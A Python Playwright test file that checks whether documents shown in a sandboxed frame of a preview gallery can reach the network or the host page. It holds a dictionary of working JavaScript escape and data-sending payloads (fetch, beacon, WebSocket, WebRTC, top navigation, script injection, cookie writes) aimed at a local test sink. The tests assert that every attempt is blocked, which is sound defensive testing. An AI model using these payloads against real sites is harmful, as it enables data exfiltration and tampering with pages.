"""Documents that try to get out of their frame, in a real browser, against sockets that count."""

from __future__ import annotations

import time
from typing import TYPE_CHECKING

from tests.page.test_page import few

if TYPE_CHECKING:
    from collections.abc import Callable

    from playwright.sync_api import Browser, Dialog

    from tests.page.conftest import Visit
    from tests.page.stand import Sink, Stand


def attacks(sink: Sink) -> dict[str, str]:
    """Scripts by what they try."""
    there, udp = sink.origin, sink.udp_port
    add = "document.body.insertAdjacentHTML('beforeend', `{}`)"
    link = "var a=document.createElement('a');a.href='{}';{};document.body.append(a);a.click()"
    return {
        "fetch": f"fetch('{there}/fetch', {{mode: 'no-cors'}})",
        "own-api": "fetch('/page/state'); fetch('/status')",
        "picture": f"new Image().src='{there}/img'",
        "socket": f"new WebSocket('{there.replace('http', 'ws')}/ws')",
        "beacon": f"navigator.sendBeacon('{there}/beacon', 'x')",
        "form": add.format(f"<form action={there}/form></form>") + ";document.forms[0].submit()",
        "link": link.format(f"{there}/a", ""),
        "ping": link.format("#x", f"a.ping='{there}/ping'"),
        "popup": link.format(f"{there}/b", "a.target='_blank'") + f";open('{there}/open')",
        "top": f"top.location='{there}/top'",
        "parent": "parent.document.title='owned'",
        "sibling": f"parent.frames[0].location='{there}/sibling'",
        "itself": f"location='{there}/self'",
        "refresh": add.format(f"<meta http-equiv=refresh content='0;url={there}/refresh'>"),
        "frames": add.format(f"<iframe src={there}/f></iframe><object data={there}/o></object>"),
        "nested": add.format(
            f"<iframe srcdoc='<meta http-equiv=refresh content=0;url={there}/n>'></iframe>"
        ),
        "styles": add.format(
            f"<style>@import url({there}/c);</style><link rel=stylesheet href={there}/l>"
        ),
        "ahead": add.format(
            f"<link rel=preconnect href={there}><link rel=prefetch href={there}/p>"
        ),
        "script": "document.body.append(Object.assign(document.createElement('script'),"
        f"{{src:'{there}/s'}}))",
        "worker": f"new Worker(URL.createObjectURL(new Blob([\"fetch('{there}/w')\"])))",
        "events": f"new EventSource('{there}/events')",
        "webrtc": f"var p=new RTCPeerConnection({{iceServers:[{{urls:'stun:127.0.0.1:{udp}'}}]}});"
        "p.createDataChannel('x');p.createOffer().then((o)=>p.setLocalDescription(o))",
        "storage": "localStorage.x='1'; document.cookie='a=b'",
        "dialogs": "alert(1)",
    }


def document(script: str) -> str:
    return (
        f"<!DOCTYPE html><body>x<script>console.log('RAN');try{{{script}}}"
        "catch(error){console.log('CAUGHT')}</script>"
    )


def test_the_sink_would_notice(browser: Browser, sink: Sink) -> None:
    """Without what keeps documents in, the same scripts get there."""
    context = browser.new_context()
    page = context.new_page()
    for name in ("fetch", "webrtc", "itself"):
        page.goto("about:blank")
        page.set_content(document(attacks(sink)[name]))
        page.wait_for_timeout(500)
    context.close()
    kinds = {hit[:3] for hit in sink.hits}
    assert kinds == {b"tcp", b"udp"}


def test_a_document_reaches_neither_the_network_nor_the_page(
    stand: Callable[..., Stand], visit: Callable[..., Visit], sink: Sink
) -> None:
    tried = attacks(sink)

    def fill(made: Stand) -> None:
        for name, script in tried.items():
            made.put(name, "production", document(script))

    here = stand(fill)
    visitor = visit("about:blank")
    page = visitor.page
    ran: list[str] = []
    dialogs: list[str] = []
    page.on("console", lambda said: ran.append(said.text))

    def dismiss(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", dismiss)
    page.goto(f"{here.url}#/?environment=production")
    page.locator(".gallery li").last.wait_for()
    for at in range(0, len(tried), 4):
        page.locator(".gallery li").nth(at).scroll_into_view_if_needed()
        page.wait_for_timeout(350)
    page.wait_for_timeout(700)
    assert ran.count("RAN") >= len(tried)  # or nothing was tried
    assert sink.hits == []
    assert page.title() == "myop-cdn: live" or page.title() == "myop-cdn"
    assert page.url.startswith(here.url)
    assert dialogs == []
    assert len(page.context.pages) == 1
    assert page.context.cookies() == []
    own = [url for url in visitor.requests if url.endswith("/status")]
    assert own == []


def test_a_frame_within_a_documents_frame_reaches_nobody_either(
    stand: Callable[..., Stand], visit: Callable[..., Visit], sink: Sink
) -> None:
    """A frame of its own would have WebRTC anew; Chromium ends the tab for trying."""
    nested = f"<script>{attacks(sink)['webrtc']}<\\/script>".replace('"', "&quot;")
    script = f"""document.body.insertAdjacentHTML('beforeend', `<iframe srcdoc="{nested}">`)"""
    here = stand(lambda made: made.put("card", "production", document(script)))
    visit(here.url)
    time.sleep(2.5)  # not in the tab, which is gone by then
    assert sink.hits == []


def test_a_document_is_no_page_of_its_own(
    stand: Callable[..., Stand], visit: Callable[..., Visit], sink: Sink
) -> None:
    """Opened in a tab it would be on the listener's origin: it is not given out there."""
    here = stand(few)
    address = f"page/document?destination={here.destination}&component=card&environment=production"
    answer = visit(here.url).page.goto(here.url + address)
    assert answer is not None
    assert answer.status == 403


def test_another_sites_page_can_neither_read_nor_ask_anything(
    stand: Callable[..., Stand], visit: Callable[..., Visit]
) -> None:
    """Not even one on another port of this machine."""
    here, other = stand(few), visit("about:blank").page
    other.route("http://other.localhost/", lambda route: route.fulfill(body="<p>other"))
    other.goto("http://other.localhost/")
    found = other.evaluate(
        """async (url) => {
          const tries = {};
          for (const path of ["", "page/state", "page/components", "page/history?component=card",
                              "status"]) {
            tries[path] = await fetch(url + path).then((a) => a.text(), () => "refused");
          }
          const frame = document.createElement("iframe");
          frame.src = url;
          document.body.append(frame);
          await new Promise((go) => { frame.onload = go; setTimeout(go, 1500); });
          try { tries.frame = frame.contentDocument ? "open" : "closed"; }
          catch { tries.frame = "closed"; }
          return tries;
        }""",
        here.url,
    )
    assert set(found.values()) == {"refused", "closed"}
    assert here.listener.queue.overview().waiting == 0
